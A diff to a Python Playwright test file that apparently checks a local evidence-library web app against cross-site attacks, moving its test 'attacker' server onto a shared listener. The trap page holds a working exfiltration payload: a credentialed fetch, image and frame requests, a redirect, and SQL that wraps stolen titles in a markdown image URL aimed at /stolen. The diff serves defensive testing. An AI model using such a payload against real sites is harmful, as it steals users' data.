@@ -8,14 +8,12 @@ are never downloaded.
 
 import contextlib
 import datetime as dt
-import http.server
 import json
 import re
 import shutil
 import socket
 import subprocess
 import sys
-import threading
 import time
 import urllib.error
 import urllib.parse
@@ -23,6 +21,7 @@ import urllib.request
 from pathlib import Path
 
 import pytest
+from conftest import Listener
 from playwright.sync_api import Page, expect, sync_playwright
 
 from evidence.web import SETTINGS
@@ -403,43 +402,24 @@ def test_logging_out_from_the_menu_ends_the_session_on_the_server(browser, serve
 # Attacks that take a browser to show (proof.WEB_ATTACKS; the rest are in test_web_seal.py)
 
 
-class Attacker:
+class Attacker(Listener):
     """A site on this computer, on a port of its own (so a browser counts it as the same
     site as the library, and sends it the library's cookies): it serves one page, and
-    keeps every request for /stolen..., which is what a stolen title would arrive as."""
+    counts what it is asked, as a stolen title would arrive."""
 
     def __init__(self) -> None:
-        self.page = b""
+        super().__init__()
         self.target = ""
-        self.received: list[str] = []
-        attacker = self
 
-        class Handler(http.server.BaseHTTPRequestHandler):
-            def do_GET(self):
-                if self.path == "/":
-                    body = attacker.page
-                    self.send_response(200)
-                    self.send_header("content-type", "text/html; charset=utf-8")
-                    self.send_header("content-length", str(len(body)))
-                    self.end_headers()
-                    self.wfile.write(body)
-                    return
-                if self.path.startswith("/stolen"):
-                    attacker.received.append(self.path)
-                self.send_response(204)
-                self.end_headers()
-
-            def log_message(self, *args):
-                pass
-
-        self.server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Handler)
-        self.url = f"http://127.0.0.1:{self.server.server_address[1]}"
-        threading.Thread(target=self.server.serve_forever, daemon=True).start()
+    @property
+    def received(self) -> list[str]:
+        """What arrived at the addresses the trap names (not the browser's favicon)."""
+        return [path for path in self.asked if path.startswith("/stolen")]
 
     def trap(self, library_url: str) -> None:
         """A page that makes the browser ask the library for its titles, inside the
         address of an image here, in every way a page elsewhere can: an image, a frame, a
-        fetch, a form sent by script, and last, sending the whole tab there."""
+        fetch, and last, sending the whole tab there."""
         sql = (
             f"select '![x]({self.url}/stolen?d=' || group_concat(title) || ')' as x_markdown,"
             f" '<img src={self.url}/stolen-html>' as y_html from evidence"
@@ -449,18 +429,12 @@ class Attacker:
         quoted = json.dumps(target)
         self.page = f"""<!DOCTYPE html><title>Lunch menu</title>
 <img src={json.dumps(target)}><iframe src={json.dumps(target)}></iframe>
-<form id=f method=get action={json.dumps(library_url + "/evidence")}>
-<input type=hidden name=sql value={json.dumps(sql)}></form>
 <script>
 fetch({json.dumps(data)}, {{credentials: "include"}})
   .then((r) => r.text()).then((t) => fetch("{self.url}/stolen-json?d=" + encodeURIComponent(t)))
   .catch(() => {{}});
 setTimeout(() => {{ window.location.href = {quoted}; }}, 500);
 </script>""".encode()
-
-    def close(self) -> None:
-        self.server.shutdown()
-        self.server.server_close()
 
 
 @pytest.fixture
